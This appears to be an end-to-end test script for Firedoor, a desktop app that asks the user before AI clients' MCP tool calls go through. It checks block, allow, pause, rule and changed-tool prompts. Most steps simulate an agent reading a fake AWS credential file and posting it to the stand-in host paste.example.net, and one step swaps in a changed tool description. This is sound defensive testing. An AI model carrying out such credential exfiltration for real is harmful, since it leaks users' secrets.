#!/usr/bin/env python3
"""The desktop app, end to end: the real program on a desktop without a screen, driven through WebDriver, tray and bus.

Protects everything from the Home view, then lets a client make the same flagged call three times: blocked, allowed once,
and allowed late, after nobody had answered in time. Needs the app built with the feature `automation`.
With --pictures DIR it also writes what docs/images shows. Exits 1 when a step fails, 2 when something is missing.
"""

import argparse
import contextlib
import getpass
import json
import pathlib
import random
import string
import subprocess
import sys
import time

from desktop import APP, Desktop, Missing, until  # knows where the harness lies
from agent import Agent
from scratch import Scratch, as_ordinary_user, descendants
from webdriver import NoSuch

PASTE = "https://paste.example.net/upload"
CONFIG = """{{
    "numStartups": 17,
    "mcpServers": {{
        "files":  {{ "command": "{python}", "args": ["{servers}/files_server.py", "{folder}"] }},
        "outbox": {{"command": "{python}","args": ["{servers}/outbox_server.py"]}}
    }}
}}"""
CURSOR = """{{ "mcpServers": {{ "files": {{ "command": "{python}", "args": ["{servers}/files_server.py", "{folder}"] }},
  "remote": {{ "url": "https://mcp.example.com/mcp" }} }} }}
"""
# Cold: from the call to a question on screen that can be read.
COLD_S = 1.0
# The engine holds a call this long (DESIGN, "Asking").
HELD_S = 45


class Failed(Exception):
    """A step did not prove what it should."""


def expect(condition, what):
    """Ends the test when something is not so."""
    if not condition:
        raise Failed(what)


def credential():
    """A made-up key in the form of a real one, other in each run."""
    dice = random.SystemRandom()
    key = "AKIA" + "".join(dice.choices(string.ascii_uppercase + "234567", k=16))
    secret = "".join(dice.choices(string.ascii_letters + string.digits + "+/", k=40))
    return f"[default]\naws_access_key_id = {key}\naws_secret_access_key = {secret}\n", secret


class Test:
    """One run."""

    def __init__(self, scratch, desktop, pictures):
        self.scratch, self.desktop, self.pictures = scratch, desktop, pictures
        self.step_at = time.monotonic()
        self.browser = None

    def done(self, text):
        """Says what was proved, and how long it took."""
        now = time.monotonic()
        print(f"  ok  {text} ({now - self.step_at:.1f} s)", flush=True)
        self.step_at = now

    def picture(self, name, title="Firedoor"):
        """Keeps what a window shows, as it is on the screen: WebDriver's own pictures may be of a moment before."""
        if self.pictures:
            time.sleep(1.5)
            self.desktop.window_picture(title, self.pictures / f"{name}.png")

    def tray_picture(self):
        """Keeps the tray's icon and menu, drawn by GTK from what the app tells the desktop."""
        if self.pictures:
            opened = self.desktop.order("popup")
            expect(opened is True, f"the menu could not be drawn: {opened} {self.desktop.order('icon')}")
            time.sleep(0.5)
            self.desktop.window_picture("Tray", self.pictures / "tray.png")
            self.desktop.order("popdown")

    def wait(self, true, what, seconds=15):
        """Waits until something is so."""
        found = until(true, seconds)
        expect(found, f"{what}{self.desktop.complaints()}\n   window says: {self.browser.text()[:600]!r}")
        return found

    def main_window(self):
        """Goes to the main window."""
        self.wait(lambda: self.browser.window("Firedoor"), "there is no main window")

    def prompt(self, seconds=15):
        """Goes to the question, once it can be read."""
        shown = lambda: self.browser.window("Firedoor question") and self.browser.find("#allow")  # noqa: E731
        self.wait(shown, "no question came up", seconds)

    def arm(self):
        """Waits until the buttons work."""
        armed = lambda: self.browser.attribute("#allow", "aria-disabled") == "false"  # noqa: E731
        self.wait(armed, "the buttons stayed inert", 5)

    def settled(self, css=".evidence"):
        """Waits until a part is there and the window as tall as that: a button that moves is missed."""
        place = """const [block, part] = ["#block", arguments[0]].map((css) => document.querySelector(css));
            const y = (one) => one.getBoundingClientRect().y;
            return part && [y(block), y(part), innerHeight, document.body.scrollHeight];"""
        before = []

        def same():
            before.append(self.browser.script(place, css))
            return len(before) > 2 and before[-1] and before[-1] == before[-2] == before[-3]

        self.wait(same, "the window does not come to rest", 5)

    def choose(self, value):
        """Chooses what an answer is to hold for."""
        css = f"input[value={value}]"
        self.settled(css)
        self.browser.click(css)
        chosen = lambda: self.browser.script("return document.querySelector(arguments[0]).checked", css)  # noqa: E731
        self.wait(chosen, f"{value} was not chosen")

    def asked(self):
        """Whether a question is on the screen: its window is kept ready for the next one."""
        return self.desktop.shown("Firedoor question")

    def gone(self):
        """Waits until the question is gone."""
        self.wait(lambda: not self.asked(), "the question stayed")

    def cold(self):
        """Waits until the app has ended what it kept ready; in a build for tests it does so after 5 s."""
        running = lambda: descendants(self.scratch.engine_pid(), "WebKitWebProcess")  # noqa: E731
        expect(until(lambda: not running(), 20), f"pages without a window go on{self.desktop.complaints()}")

    def engine(self):
        """Attaches to the engine there is, takes over when it goes, and is there once only."""
        daemon = self.scratch.start(self.scratch.bin / "firedoor", "daemon", stdout=self.desktop.log, stderr=self.desktop.log)
        self.wait_for_engine(lambda pid: pid == daemon.pid, "the daemon does not listen")
        self.browser = self.desktop.app()
        self.main_window()
        self.wait(lambda: any("the engine and its servers go on" in label for label in self.desktop.menu()), "it did not attach")
        expect(self.scratch.engine_pid() == daemon.pid, "there is a second engine")
        daemon.kill()
        daemon.wait()
        self.wait_for_engine(lambda pid: pid not in (None, daemon.pid), "nobody took over")
        self.wait(lambda: any("no server is running" in label for label in self.desktop.menu()), "it does not know its own engine")
        second = self.scratch.run(self.desktop.binary, env=self.desktop.env, timeout=10)
        expect(second.returncode == 0, f"a second start fails: {second.stderr}")
        self.done("the app attaches to a running engine, takes over when that is killed, and runs once")

    def wait_for_engine(self, right, what):
        """Waits until the process behind the socket is the right one."""
        expect(until(lambda: right(self.scratch.engine_pid()), 15), what + self.desktop.complaints())

    def protect(self, config, original):
        """First run: Protect all from Home, each server checked."""
        self.main_window()
        self.wait(lambda: "Found 4 servers in 2 apps" in self.browser.text(), "the first run does not show what there is")
        expect("firedoor-shim" in self.browser.text(".diff"), "the diff does not show what would change")
        expect(config.read_bytes() == original, "looking changed the file")
        self.picture("first-run")
        self.done("the app starts, finds the servers and shows what would change")

        self.browser.click("#carry-out")
        self.wait(lambda: self.browser.find("#done"), "the checks did not end", 240)
        said = self.browser.text("#checked")
        expect(said.count("the same") == 3, f"not every server was seen to answer: {said}")
        entries = json.loads(config.read_text())["mcpServers"]
        commands = {pathlib.Path(entry["command"]).name for entry in entries.values()}
        expect(commands == {"firedoor-shim"}, f"the entries start {commands}")
        self.picture("protected")
        self.browser.click("#done")
        self.wait(lambda: "run through Firedoor" in self.browser.text(), "Home does not say what is protected")
        self.done("every server is protected and was seen to answer as before")

    def flagged(self, agent, body):
        """Reads a credential through one server and sends it to the other. Returns the call and when it was made."""
        text, error = agent.call("files", "read_file", path=".aws/credentials")
        expect(not error and body in text, f"the file did not come back: {text[:200]}")
        return agent.send("outbox", "http_post", url=PASTE, body=body), time.time()

    def painted(self):
        """When the window was opened and when it was first drawn, in milliseconds since 1970 (Paint Timing)."""
        paint = """const paint = performance.getEntriesByName("first-contentful-paint")[0];
            return paint ? [performance.timeOrigin, performance.timeOrigin + paint.startTime] : null;"""
        return self.wait(lambda: self.browser.script(paint), "nothing was drawn")

    def block(self, config, body, secret):
        """Blocked by the user."""
        # Cold: no window is open, so WebKit has to start all of its processes.
        self.desktop.close_window("Firedoor")
        self.wait(lambda: not self.browser.window("Firedoor"), "the main window did not close")
        self.cold()
        with Agent(self.scratch, config, self.desktop.log) as agent:
            tag, at = self.flagged(agent, body)
            self.prompt()
            # In one go, while they are inert.
            hasty = """const [allow, focused] = [document.querySelector("#allow"), document.activeElement.tagName];
                const inert = allow.getAttribute("aria-disabled");
                allow.click();
                return [inert, focused];"""
            inert, focused = self.browser.script(hasty)
            opened, drawn = self.painted()
            took = drawn / 1000 - at
            print(f"      of these, {drawn - opened:.0f} ms in the window itself", flush=True)
            shown = self.browser.text()
            print(f"      the question was on screen {took * 1000:.0f} ms after the call was made, cold", flush=True)
            expect(took <= COLD_S, f"the question took {took:.2f} s")
            for part in ("Claude Code", "outbox", "http_post", "paste.example.net", "Send a credential out", "1 of 1"):
                expect(part in shown, f"the question does not say {part!r}: {shown}")
            expect(secret not in shown, "the question shows the secret in clear")
            expect(inert == "true", "the buttons were armed at once")
            expect(focused not in ("BUTTON", "INPUT"), "a button has the focus")
            expect(not agent.answered(tag), "a click before the buttons are armed counted")
            self.done("the question comes up, names both ends, hides the secret, and takes no hasty click")

            self.arm()
            self.picture("prompt", "Firedoor question")
            self.tray_picture()
            self.browser.click(".line2 button")
            ends = self.browser.text(".evidence")
            expect("files" in ends and "outbox" in ends, f"the evidence does not name both ends: {ends}")
            self.picture("prompt-evidence", "Firedoor question")
            self.wait(lambda: "1 question…" in self.desktop.menu(), "the tray does not say that a question waits")
            notified = self.desktop.order("notifications")
            expect(notified and "open" in notified[-1]["actions"], f"nothing was notified: {notified}")
            self.foreign_answers()
            self.browser.click("#block")
            text, error = agent.answer(tag)
            expect(error and secret not in text, f"the call was not refused: {text}")
            self.gone()
            self.done("Block: the client gets a refusal, the question goes")

    def locked_down(self):
        """What the page may not do, in both windows."""
        script = """const tried = async (f) => { try { return "passed: " + await f(); } catch (e) { return "refused: " + e; } };
            return Promise.all([
              tried(() => fetch("https://example.com/")),
              tried(() => new Function("return 1")()),
              tried(() => { document.createElement("p").innerHTML = "<b>x</b>"; return "text became elements"; }),
              tried(() => window.__TAURI_INTERNALS__.invoke("plugin:window|create", {options: {label: "x"}})),
              tried(() => window.__TAURI_INTERNALS__.invoke("plugin:event|emit", {event: "changed", payload: null})),
              tried(() => { if (!Object.isFrozen(Object.prototype)) return "thawed"; throw "frozen"; }),
              tried(() => { if (window.__TAURI__) return "there is a global"; throw "no global"; })]);"""
        for said in self.browser.script(script):
            expect(said.startswith("refused"), f"the page may do what it should not: {said}")

    def foreign_answers(self):
        """The main window may not answer, nor anybody without the number."""
        refused = """return window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1])
            .then((v) => "passed: " + JSON.stringify(v), (e) => "refused: " + e);"""
        self.locked_down()
        wrong = {"nonce": "0" * 32, "answer": {"choice": "allow", "duration": "once", "scope": "call", "stop": False}}
        said = self.browser.script(refused, "answer", wrong)
        expect(said.startswith("refused") and "does not belong" in said, f"a made-up number counted: {said}")
        expect(self.browser.script(refused, "carry_out", {}).startswith("refused"), "the question window may restore")
        expect(self.desktop.order("click Open Firedoor"), "the tray's menu has no Open")
        self.main_window()
        self.locked_down()
        said = self.browser.script(refused, "answer", wrong)
        expect(said.startswith("refused") and "not allowed" in said, f"the main window may answer: {said}")
        self.prompt()

    def allow(self, config, body):
        """Allowed once; then, in the same session, late."""
        with Agent(self.scratch, config, self.desktop.log) as agent:
            tag, _at = self.flagged(agent, body)
            self.prompt()
            self.arm()
            self.browser.click("#allow")
            text, error = agent.answer(tag)
            expect(not error and "202" in text, f"the allowed call did not pass: {text}")
            self.gone()
            self.done("Allow once: the call passes")

            tag, at = agent.send("outbox", "http_post", url=PASTE, body=body), time.monotonic()
            self.prompt()
            self.escape()
            self.gone()
            self.desktop.order("act open")
            self.prompt()
            self.escape()
            self.gone()
            expect(not agent.answered(tag), "Esc answered the call")
            self.main_window()
            self.wait(lambda: "It is held for" in self.browser.text(), "Home does not show the question that was put off")
            self.picture("home")
            self.done("Esc puts the question off and answers nothing; the notification brings it back; Home shows it")

            text, error = agent.answer(tag, HELD_S + 15)
            held = time.monotonic() - at
            expect(error and HELD_S - 2 < held < HELD_S + 5, f"the call was held {held:.0f} s: {text}")
            expect(self.desktop.order("click 1 question"), "the tray's menu has no question")
            self.prompt()
            self.wait(lambda: "Nobody answered in time" in self.browser.text(), "the question does not say that it is late")
            self.arm()
            self.picture("prompt-late", "Firedoor question")
            self.browser.click("#allow")
            self.gone()
            text, error = agent.call("outbox", "http_post", url=PASTE, body=body)
            expect(not error and "202" in text, f"the repeated call did not pass: {text}")
            self.done("late Allow: refused after 45 s, then allowed from the tray, and the repeated call passes")
            self.look_back()

    def ask(self, agent, body, url=PASTE, **more):
        """Makes the flagged call and goes to its question, once it can be answered. Returns the call."""
        tag = agent.send("outbox", "http_post", url=url, body=body, **more)
        self.prompt()
        self.arm()
        return tag

    def answers(self, config, body):
        """Each answer for each time and scope: what it lets through, what it leaves to be asked, and the rule that it makes."""
        for duration, scope in (("session", "call"), ("session", "tool"), ("always", "call"), ("always", "tool")):
            with Agent(self.scratch, config, self.desktop.log) as agent:
                tag, _at = self.flagged(agent, body)
                self.prompt()
                self.arm()
                self.choose(duration)
                # What it holds for is asked once it is to hold for longer.
                self.choose(scope)
                self.picture(f"prompt-{duration}-{scope}", "Firedoor question")
                self.browser.click("#allow")
                expect(not agent.answer(tag)[1], f"the call did not pass, {duration}, {scope}")
                self.gone()
                expect(not agent.call("outbox", "http_post", url=PASTE, body=body)[1], f"the same call did not pass, {duration}, {scope}")
                if scope == "tool":
                    passed = agent.call("outbox", "http_post", url=PASTE + "/2", body=body + "\n# again")
                    expect(not passed[1], f"another call to the address did not pass, {duration}: {passed[0]}")
                    tag = self.ask(agent, body, url="https://elsewhere.example.org/")
                else:
                    tag = self.ask(agent, body + "\n# again")
                self.browser.click("#block")
                expect(agent.answer(tag)[1], f"what was not allowed passed, {duration}, {scope}")
                self.gone()
            rules = json.loads(self.scratch.firedoor("rules", "list", "--json").stdout)["rules"]
            expect(bool(rules) == (duration == "always"), f"{duration} made the rules {rules}")
            for rule in rules:
                bound = rule["matches"]
                expect(("call" in bound, bound["address"]) == (scope == "call", "paste.example.net"), f"the rule is {bound}")
                self.undo()
        self.done("Allow for the session and always, for the call and for the address: no more passes than was chosen")

        with Agent(self.scratch, config, self.desktop.log) as agent:
            tags = [self.flagged(agent, body)[0]]
            tags += [agent.send("outbox", "http_post", url=PASTE, body=f"{body}\n# {n}") for n in (2, 3)]
            self.prompt()
            listed = "return document.querySelectorAll('.calls li').length"
            self.wait(lambda: self.browser.script(listed) == 3, "the calls are not put together")
            self.arm()
            self.picture("prompt-grouped", "Firedoor question")
            self.browser.click("#allow")
            expect(not any(agent.answer(tag)[1] for tag in tags), "one answer did not do for all")
            self.gone()
            tag = self.ask(agent, body)
            self.browser.click("#block-stop")
            expect(agent.answer(tag)[1], "the call was not refused")
            running = lambda: [s["entry"] for s in json.loads(self.scratch.firedoor("status", "--json").stdout)["sessions"]]  # noqa: E731
            self.wait(lambda: "claude-code/user/outbox" not in running(), "the server still runs")
            self.gone()
        self.done("calls that ask the same are one question; Block and stop server ends the server")

    def undo(self):
        """Removes a rule in the window."""
        rules = lambda: json.loads(self.scratch.firedoor("rules", "list", "--json").stdout)["rules"]  # noqa: E731
        before = len(rules())
        expect(self.desktop.order("click Open Firedoor"), "the tray's menu has no Open")
        self.main_window()
        self.browser.script("document.querySelectorAll('.side a')[3].click()")
        self.wait(lambda: "paste.example.net" in self.browser.text("table"), "Rules does not list the rule")
        self.browser.script("[...document.querySelectorAll('table button')].at(-1).click()")
        self.wait(lambda: len(rules()) == before - 1, "the rule was not removed")

    def stray(self, config, body):
        """Keys and clicks of the real keyboard and mouse at the moment the question appears, and keys without a choice."""
        with Agent(self.scratch, config, self.desktop.log) as agent:
            tag, _at = self.flagged(agent, body)
            self.wait(lambda: self.desktop.shown("Firedoor question"), "no question came up")
            self.desktop.on_window("Firedoor question", "windowfocus")
            self.desktop.keys("Return", "space", "y", "Return")
            self.desktop.click_at("Firedoor question", 0.88, 0.88)
            self.prompt()
            expect(not agent.answered(tag), "a key or a click at the moment of appearance counted")
            self.arm()
            self.desktop.keys("Return", "space")
            expect(self.browser.find("#allow") and not agent.answered(tag), "a key without a choice counted")
            self.desktop.keys("Escape")
            self.gone()
            expect(not agent.answered(tag), "Esc answered the call")
            expect(self.desktop.order("click 1 question"), "the tray's menu has no question")
            self.prompt()
            self.arm()
            self.browser.click("#block")
            expect(agent.answer(tag)[1], "the call was not refused")
            self.gone()
        self.done("stray Enter, Space, letters, Esc and a click at the moment of appearance never allow")

    def warm(self, config, body):
        """The window that is kept ready: quick, without the focus, as new each time, and inert again."""
        expect(self.desktop.order("click Open Firedoor"), "the tray's menu has no Open")
        self.main_window()
        page = """const chosen = [...document.querySelectorAll("input:checked")].map((one) => one.value);
            return [performance.timeOrigin, document.querySelector("#allow").getAttribute("aria-disabled"), chosen, document.querySelector(".evidence") !== null];"""
        pages = []
        for _ in range(6):
            # What was blocked once is not asked about again by the same client.
            with Agent(self.scratch, config, self.desktop.log) as agent:
                self.desktop.on_window("Firedoor", "windowactivate")
                self.wait(lambda: self.desktop.active() == "Firedoor", "the main window has not got the focus")
                tag, at = self.flagged(agent, body)
                expect(until(self.asked, 15), "no question came up")
                # WebDriver gives the focus to a window that it goes to.
                expect(self.desktop.active() == "Firedoor", f"the question took the focus: {self.desktop.active()}")
                self.prompt()
                opened, inert, chosen, evidence = self.browser.script(page)
                drawn = self.painted()[1] / 1000 - at
                print(f"      the question was on screen {drawn * 1000:.0f} ms after the call was made", flush=True)
                expect(inert == "true", "the buttons were armed at once")
                expect(chosen == ["once"] and not evidence, f"the window still knows the question before: {chosen}")
                expect(opened not in pages, "the page is that of the question before")
                pages.append(opened)
                # A click of the real mouse, on nothing: a window that somebody has used may come up in front of all others next.
                self.desktop.click_at("Firedoor question", 0.5, 0.02)
                self.arm()
                self.choose("session")
                self.browser.click(".line2 button")
                self.settled()
                self.browser.click("#block")
                expect(agent.answer(tag)[1], "the call was not refused")
                self.gone()
        self.done("a warm question comes up without the focus, new and inert each time")

    def labels(self, begin):
        """The menu's items that begin so."""
        return [label for label in self.desktop.menu() if label.startswith(begin)]

    def pause(self, config, body):
        """Nothing is asked for a while: on a click in the window, not on one in the tray, which every program can make."""
        with Agent(self.scratch, config, self.desktop.log) as agent:
            expect(self.desktop.order("click Pause questions"), "the tray's menu has no Pause")
            self.main_window()
            self.wait(lambda: self.browser.find("#pause-now"), "the window does not ask whether to pause")
            expect(self.labels("Pause questions") and not self.labels("Paused"), "a click in the tray paused")
            self.wait(lambda: self.browser.attribute("#pause-now", "aria-disabled") == "false", "the button stayed inert", 5)
            self.picture("pausing")
            self.browser.click("#pause-now")
            self.wait(lambda: self.labels("Paused until") and self.labels("Ask again now"), "the tray does not say that it is paused")
            self.wait(lambda: "Paused until" in self.browser.text(".state"), "Home does not say that it is paused")
            self.picture("paused")
            said = self.scratch.firedoor("status").stdout
            expect("questions are paused" in said, f"status does not say that it is paused: {said}")
            tag, _at = self.flagged(agent, body)
            text, error = agent.answer(tag)
            expect(not error and not self.asked(), f"the call was not let through: {text}")
            expect(self.desktop.order("click Ask again now"), "the tray cannot end the pause")
            self.wait(lambda: self.labels("Pause questions") and not self.labels("Paused"), "the pause goes on")
            tag = agent.send("outbox", "http_post", url=PASTE, body=body)
            self.prompt()
            self.arm()
            self.browser.click("#block")
            expect(agent.answer(tag)[1], "the call was not refused after the pause")
            self.gone()
        self.done("Pause: asked for in the window, said everywhere; calls pass and are asked about again afterwards")

    def apps(self):
        """What the tray says about each client, and the view that it opens."""
        expect(self.labels("Claude Code: 2 of 2 protected"), f"the tray does not count: {self.desktop.menu()}")
        expect(self.desktop.order("click Claude Code"), "the client's item cannot be chosen")
        self.main_window()
        self.wait(lambda: "Give 2 servers back to 1 app" in self.browser.text(), "the window does not show what would change")
        expect(self.labels("Claude Code: 2 of 2 protected"), "a click in the tray gave servers back")
        address = self.scratch.run(self.desktop.binary, "firedoor://rules", env=self.desktop.env, timeout=10)
        expect(address.returncode == 0, f"an address is not taken: {address.stderr}")
        self.wait(lambda: self.browser.text("h1") == "Rules", "an address does not open its view")
        self.browser.script("document.querySelectorAll('.side a')[4].click()")
        self.wait(lambda: self.browser.find("#login"), "Settings does not show whether it starts with the login")
        entry = self.scratch.home / ".config/autostart/io.firedoor.Firedoor.desktop"
        self.browser.click("#login")
        self.wait(lambda: entry.is_file() and "--background" in entry.read_text(), "it does not start with the login")
        self.browser.click("#login")
        self.wait(lambda: not entry.exists(), "it starts with the login all the same")
        address = self.scratch.run(self.desktop.binary, "firedoor://restore", env=self.desktop.env, timeout=10)
        expect(address.returncode == 2, "an address may do more than open a view")
        self.done("the tray's items for apps, and addresses, open views and change nothing; start with the login is a choice")

    def escape(self):
        """Presses Esc, from no key pressed: the window of the last time was gone before the key was up."""
        self.browser.do("DELETE", "/actions")
        strokes = [{"type": kind, "value": "\ue00c"} for kind in ("keyDown", "keyUp")]
        with contextlib.suppress(NoSuch):
            self.browser.do("POST", "/actions", {"actions": [{"type": "key", "id": "keys", "actions": strokes}]})

    def look_back(self):
        """Activity, and what runs."""
        self.main_window()
        self.browser.script("document.querySelectorAll('.side a')[0].click()")
        self.wait(lambda: "outbox" in self.browser.text("#running"), "Home does not show what runs")
        self.picture("home-running")
        self.browser.script("document.querySelectorAll('.side a')[1].click()")
        self.wait(lambda: "Asked" in self.browser.text("table.log"), "Activity does not show the question")
        self.browser.script("""[...document.querySelectorAll('table.log tbody tr')]
            .find((row) => row.textContent.includes('Asked')).click()""")
        self.wait(lambda: "paste" in self.browser.text(".pane") or "outbox" in self.browser.text(".pane"), "no details")
        self.picture("activity")
        self.done("Home shows what runs under which sandbox, Activity what happened")

    def restore(self, config, original):
        """Restore all, and quit from the tray."""
        expect(self.desktop.order("click Restore"), "the tray's menu has no Restore")
        self.main_window()
        self.wait(lambda: self.browser.text("#carry-out").startswith("Restore"), "Restore shows no plan")
        self.browser.click("#carry-out")
        self.wait(lambda: "byte for byte" in self.browser.text("#files"), "nothing was restored")
        expect(config.read_bytes() == original, "the file is not what it was")
        self.done("Restore all: the file is what it was, byte for byte")
        pid = self.scratch.engine_pid()
        expect(self.desktop.order("click Quit"), "the tray's menu has no Quit")
        self.wait_for_end(pid)
        verified = self.scratch.firedoor("log", "verify")
        expect(verified.returncode == 0, f"the log is broken: {verified.stderr}")
        self.done("Quit ends app and engine; the audit chain is whole")

    def wait_for_end(self, pid):
        """The app is gone, and the engine with it."""
        expect(until(lambda: self.scratch.engine_pid() is None, 10), f"the engine (process {pid}) still runs")

    def configure(self):
        """A credential, and two clients that could leak it. Returns it, the secret in it, and the first client's file."""
        body, secret = credential()
        folder = self.scratch.home / "project"
        self.scratch.write("project/.aws/credentials", body)
        names = {"python": self.scratch.python, "servers": self.scratch.servers, "folder": folder}
        config = self.scratch.write(".claude.json", CONFIG.format(**names))
        self.scratch.write(".cursor/mcp.json", CURSOR.format(**names))
        return body, secret, config

    def granting(self):
        """What opens the folder with the credential to the server that reads it."""
        return ["grants", "add", "claude-code/user/files", "--ro", self.scratch.home / "project"]

    def grant(self):
        """Opens the folder with the credential to the server that reads it, from a terminal: what weakens is confirmed here."""
        options = {"stdout": subprocess.PIPE, "stderr": subprocess.STDOUT, "text": True, "start_new_session": True}
        for button, code in (("#block", 1), ("#allow", 0)):
            asking = self.scratch.start(self.scratch.bin / "firedoor", *self.granting(), stdin=subprocess.DEVNULL, **options)
            self.prompt()
            shown = self.browser.text()
            for part in ("Let a command weaken protection?", "granting more to claude-code/user/files", "--ro", "firedoor ("):
                expect(part in shown, f"the confirmation does not say {part!r}: {shown}")
            expect(asking.poll() is None, "the command did not wait")
            self.arm()
            self.picture("prompt-command", "Firedoor question")
            self.browser.click(button)
            said = asking.communicate(timeout=20)[0]
            expect(asking.returncode == code, f"{button}: the command ended with {asking.returncode}: {said}")
            expect("confirm it on the desktop" in said, f"the command does not say where it is confirmed: {said}")
            expect(("refused on the desktop" in said) == (code == 1), f"{button}: the command says {said}")
            self.gone()
        granted = self.scratch.json("grants", "list")["grants"]
        expect(len(granted) == 1 and len(granted[0]["grants"]) == 1, f"what was refused was granted, or the other way round: {granted}")
        self.done("a command that weakens protection waits for the desktop: refused there it does nothing, allowed it does")

    def appeared(self):
        """A server that appears is asked about, with what would change, and protected from the question."""
        self.text = self.scratch.servers / "description.txt"
        self.text.write_text("Adds two numbers.\n")
        entry = {"command": str(self.scratch.python), "args": [str(self.scratch.servers / "changing_server.py"), str(self.text)]}
        config = self.scratch.write(".gemini/settings.json", json.dumps({"mcpServers": {"adder": entry}}, indent=2) + "\n")
        self.prompt()
        shown = self.browser.text()
        for part in ("Protect a new server?", "Gemini CLI", "adder", "changing_server.py", "unprotected"):
            expect(part in shown, f"the question does not say {part!r}: {shown}")
        self.browser.click(".line2 button")
        expect("firedoor-shim" in self.browser.text(".diff"), "the question does not show what would change")
        self.arm()
        self.picture("prompt-server", "Firedoor question")
        self.browser.click("#allow")
        self.gone()
        command = json.loads(config.read_text())["mcpServers"]["adder"]["command"]
        expect(pathlib.Path(command).name == "firedoor-shim", f"the entry starts {command}")
        told = lambda: any("answers as before" in note["body"] for note in self.desktop.order("notifications"))  # noqa: E731
        self.wait(told, "what was seen of the server was not notified", 120)
        self.done("a server that appears is asked about with what would change, and protected and checked on a click")
        return config

    def changed(self, config):
        """A tool that changes is asked about, field by field: kept back and not asked about again, changed once more and accepted."""
        tools = lambda agent: [tool for of in agent.tools.values() for tool in of]  # noqa: E731
        with Agent(self.scratch, config, self.desktop.log) as agent:
            expect(tools(agent) == ["add"], f"the server lists {agent.tools}")
        for text, button, label in (("Subtracts.", "#block", "Keep blocked"), ("Multiplies two numbers.", "#allow", "Accept change")):
            self.text.write_text(text + "\n")
            with Agent(self.scratch, config, self.desktop.log) as agent:
                expect(tools(agent) == [], f"the changed tool is listed: {agent.tools}")
                self.prompt()
                shown = self.browser.text()
                for part in ("Use a tool whose definition has changed?", "add", "description", "Nothing is waiting"):
                    expect(part in shown, f"the question does not say {part!r}: {shown}")
                expect("Adds two numbers." in self.browser.text(".diff .del"), "the question does not show what was")
                expect(text in self.browser.text(".diff .add"), "the question does not show what is")
                self.arm()
                self.picture("prompt-changed", "Firedoor question")
                expect(self.browser.text(button) == label, f"the button says {self.browser.text(button)}")
                self.browser.click(button)
                self.gone()
            with Agent(self.scratch, config, self.desktop.log) as agent:
                expect(tools(agent) == (["add"] if button == "#allow" else []), f"after {label}: {agent.tools}")
                expect(not self.asked(), f"it was asked again after {label}")
        self.done("a changed tool is asked about by field; kept back it is not asked about again, accepted it can be called")

    def run(self):
        """All steps."""
        body, secret, config = self.configure()
        original = config.read_bytes()
        self.engine()
        self.protect(config, original)
        self.grant()
        self.block(config, body, secret)
        self.allow(config, body)
        self.answers(config, body)
        self.stray(config, body)
        self.warm(config, body)
        self.pause(config, body)
        self.apps()
        self.changed(self.appeared())
        self.restore(config, original)


def judged(name, steps):
    """Runs the steps; says how it went, and returns the exit code for that."""
    try:
        steps()
    except Missing as error:
        print(f"{name}: {error}", file=sys.stderr)
        return 2
    except (Failed, NoSuch, OSError, ValueError, KeyError, RuntimeError, subprocess.SubprocessError) as error:
        print(f"  FAILED: {type(error).__name__}: {error}")
        return 1
    print(f"{name}: passed")
    return 0


def main():
    """Runs the steps and says how it went."""
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("--pictures", type=pathlib.Path)
    chosen = options.parse_args()
    as_ordinary_user(__file__, APP)

    def steps():
        with Scratch() as scratch, Desktop(scratch) as desktop:
            print(f"Desktop test as {getpass.getuser()}, display {desktop.env['DISPLAY']}")
            Test(scratch, desktop, chosen.pictures).run()

    return judged("desktop", steps)


if __name__ == "__main__":
    sys.exit(main())
